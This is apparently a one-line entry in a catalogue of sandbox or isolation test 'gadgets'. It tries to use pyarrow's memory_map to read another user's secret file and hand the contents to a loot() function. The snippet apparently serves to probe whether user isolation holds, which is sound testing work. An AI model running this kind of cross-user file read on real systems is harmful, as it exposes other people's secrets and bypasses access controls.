# kind: gadgets
# tries: pyarrow maps another user's file

import pyarrow as pa

loot(pa.memory_map(VICTIM["secret"]).read().decode())
